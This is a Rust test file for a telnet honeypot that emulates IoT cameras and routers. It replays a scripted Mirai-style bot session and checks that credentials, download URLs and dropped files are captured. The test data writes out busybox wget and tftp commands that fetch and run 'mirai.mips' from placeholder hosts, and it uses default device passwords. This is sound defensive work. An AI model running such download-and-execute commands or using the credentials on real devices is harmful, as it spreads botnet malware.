use super::talk::Talk;
use crate::amplification::Persona;
use crate::iot::dialogue::Ends;
use crate::iot::house::Talking;
use crate::iot::recording::sha256;
use crate::iot::{Config, Device, Finished, Limits, bind};
use noroshi_model::lure::Lure;
use noroshi_model::{Addr, Nanos};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_util::sync::CancellationToken;

fn ends() -> Ends {
    Ends {
        sensor: "s1".into(),
        src: Addr::v4(0xc000_0209),
        sport: 4711,
        dst: Addr::v4(0xc633_6407),
        dport: 23,
        protocol: "telnet",
    }
}

/// What a visitor sees who sends these lines, and what is left of the visit.
fn visit(persona: &str, limits: Limits, lines: &[&str]) -> (String, Finished) {
    let device = Device::shipped(persona).unwrap().dress(&Persona::new(1));
    let mut now = 1_767_225_600_000_000_000;
    let (mut talk, first) = Talk::new(device, limits, &ends(), "a".into(), Nanos(now));
    let mut seen = first;
    for line in lines {
        now += 200_000_000;
        let reply = talk.feed(format!("{line}\r\n").as_bytes(), Nanos(now));
        seen.extend(&reply.bytes);
        if reply.close {
            break;
        }
    }
    (String::from_utf8_lossy(&seen).into_owned(), Box::new(talk).finish(Nanos(now)))
}

/// The order of a well-known family: menu words, shell checks, mounts, architecture, then three ways to load.
const BOT: &[&str] = &[
    "root",
    "wrong",
    "root",
    "PASSWORD",
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "/bin/busybox ps; /bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
    "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox ECCHI",
    "/bin/busybox wget http://192.0.2.66:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.mips; /bin/busybox ECCHI",
    "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 192.0.2.66; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > upnp; /bin/busybox ECCHI",
    "echo -ne '\\x02\\xff' >> upnp; /bin/busybox chmod 777 upnp; ./upnp; /bin/busybox ECCHI",
    "exit",
    "exit",
];

#[test]
fn a_scripted_bot_leaves_credentials_commands_and_places() {
    for persona in Device::names() {
        let password = &Device::shipped(persona).unwrap().credentials[0].1;
        let lines: Vec<&str> = BOT.iter().map(|line| if *line == "PASSWORD" { password } else { *line }).collect();
        let (seen, left) = visit(persona, Limits::default(), &lines);
        let session = &left.session;
        assert_eq!(session.credentials, ["root:wrong".to_owned(), format!("root:{password}")], "{persona}");
        assert_eq!((session.logins_accepted, session.logins_refused), (1, 1), "{seen}");
        assert!(seen.contains("ECCHI: applet not found"), "{seen}");
        assert!(seen.contains("kami/tmp"), "the escape test passes: {seen}");
        assert!(seen.contains("\u{7f}ELF"), "the architecture can be read");
        assert_eq!(session.urls, ["http://192.0.2.66:80/bins/mirai.mips", "tftp://192.0.2.66/mirai.mips"]);
        let file = left.samples.iter().find(|sample| sample.path == "/tmp/upnp").expect("the echoed file");
        assert_eq!(file.content.as_slice(), b"\x7fELF\x01\x02\xff");
        assert!(session.hashes.contains(&sha256(b"\x7fELF\x01\x02\xff")));
        assert_eq!(session.commands.len(), BOT.len() - 4, "{:?}", session.commands);
        assert!(session.steps.contains("\"k\":\"url\""));
        let mut lines = left.recording.lines();
        assert!(lines.next().unwrap().contains("\"version\":2"));
        assert!(lines.all(|line| serde_json::from_str::<(f64, String, String)>(line).is_ok()));
        assert_eq!(session.recording.as_deref(), Some(&*sha256(left.recording.as_bytes())));
    }
}

#[test]
fn limits_end_a_dialogue_and_say_so() {
    let limits = Limits { lines: 3, ..Limits::default() };
    let (_, left) = visit("camera", limits, &["root", "xc3511", "ls", "ls", "ls", "ls", "ls"]);
    assert!(left.session.truncated && left.session.commands.len() == 3);
    let limits = Limits { bytes_in: 20, ..Limits::default() };
    let (_, left) = visit("camera", limits, &["root", "xc3511", "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "ls"]);
    assert!(left.session.truncated && left.session.commands.is_empty());
    let limits = Limits { logins: 2, ..Limits::default() };
    let (_, left) = visit("camera", limits, &["a", "b", "a", "b", "a", "b"]);
    assert_eq!(left.session.credentials.len(), 2);
}

#[test]
fn many_lines_in_one_piece_say_no_more_than_fits() {
    let device = Device::shipped("camera").unwrap().dress(&Persona::new(1));
    let (mut talk, _) = Talk::new(device, Limits::default(), &ends(), "a".into(), Nanos(0));
    let mut lines = b"root\nxc3511\n".to_vec();
    // Doubled sixteen times: a file of 65,536 bytes, which is then read two thousand times.
    lines.extend(b"echo -n a > /tmp/f\n");
    lines.extend(b"cat /tmp/f /tmp/f > /tmp/g; cat /tmp/g > /tmp/f\n".repeat(16));
    talk.feed(&lines, Nanos(0));
    let reply = talk.feed(&b"cat /tmp/f\n".repeat(2_000), Nanos(0));
    assert!(reply.close, "the dialogue goes on");
    assert!(reply.bytes.len() > 65_536, "the file is read");
    assert!(reply.bytes.len() < 2 * Limits::default().bytes_out as usize, "{} bytes at once", reply.bytes.len());
}

#[test]
fn hostile_streams_stay_in_budget() {
    let device = Device::shipped("router").unwrap().dress(&Persona::new(1));
    let (mut talk, _) =
        Talk::new(device, Limits { bytes_in: 300_000, ..Limits::default() }, &ends(), "a".into(), Nanos(0));
    let mut answered = 0;
    for n in 0..2_000u32 {
        let piece: Vec<u8> = (0..200u32)
            .map(|i| {
                (n.wrapping_mul(2_654_435_761).wrapping_add(i * 40_503) >> 11) as u8 | if i % 3 == 0 { 0xf0 } else { 0 }
            })
            .collect();
        let reply = talk.feed(&piece, Nanos(i64::from(n)));
        answered += reply.bytes.len();
        if reply.close {
            break;
        }
    }
    assert!(answered < 4 << 20, "{answered}");
}

#[tokio::test]
async fn over_a_socket() {
    let config = Config {
        sensor: "s1".into(),
        seed: 7,
        persona: "camera".into(),
        listen: vec![(Lure::Telnet, "127.0.0.1:0".parse().unwrap())],
        hasty: true,
        ..Config::default()
    };
    let bound = bind(config).unwrap();
    let address = bound.addresses()[0].1;
    let (finished, mut sessions) = tokio::sync::mpsc::channel(4);
    let shutdown = CancellationToken::new();
    let served = tokio::spawn(bound.run(finished, shutdown.clone()));
    let mut visitor = tokio::net::TcpStream::connect(address).await.unwrap();
    visitor
        .write_all(
            b"\xff\xfb\x1f\xff\xfd\x05root\r\nxc3511\r\nwget http://192.0.2.1/a.sh; cat /proc/cpuinfo\r\nexit\r\n",
        )
        .await
        .unwrap();
    let mut seen = Vec::new();
    visitor.read_to_end(&mut seen).await.unwrap();
    let text = String::from_utf8_lossy(&seen);
    assert!(text.contains("hi3518"), "{text}");
    let session = sessions.recv().await.unwrap().session;
    assert_eq!((session.urls.as_slice(), session.logins_accepted), (&["http://192.0.2.1/a.sh".to_owned()][..], 1));
    assert!(session.bytes_in > 0 && session.bytes_out as usize == seen.len());
    shutdown.cancel();
    served.await.unwrap();
}

/// The words by which a program reaches out, searched for in every source of the lures.
#[test]
fn no_source_opens_an_outgoing_connection() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut folders = vec![root.join("iot"), root.join("amplification"), root.join("first")];
    let mut read = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let is_test = path.file_name().is_some_and(|name| name == "tests.rs");
            if is_test || path.extension().is_none_or(|ending| ending != "rs") {
                continue;
            }
            read += 1;
            let text = std::fs::read_to_string(&path).unwrap();
            for word in [
                "connect(",
                "TcpSocket",
                "lookup_host",
                "ToSocketAddrs",
                "reqwest",
                "hyper",
                "process::Command",
                "send_to(",
            ] {
                assert!(!text.contains(word), "{} contains {word}", path.display());
            }
        }
    }
    assert!(read > 40, "only {read} files were read");
}
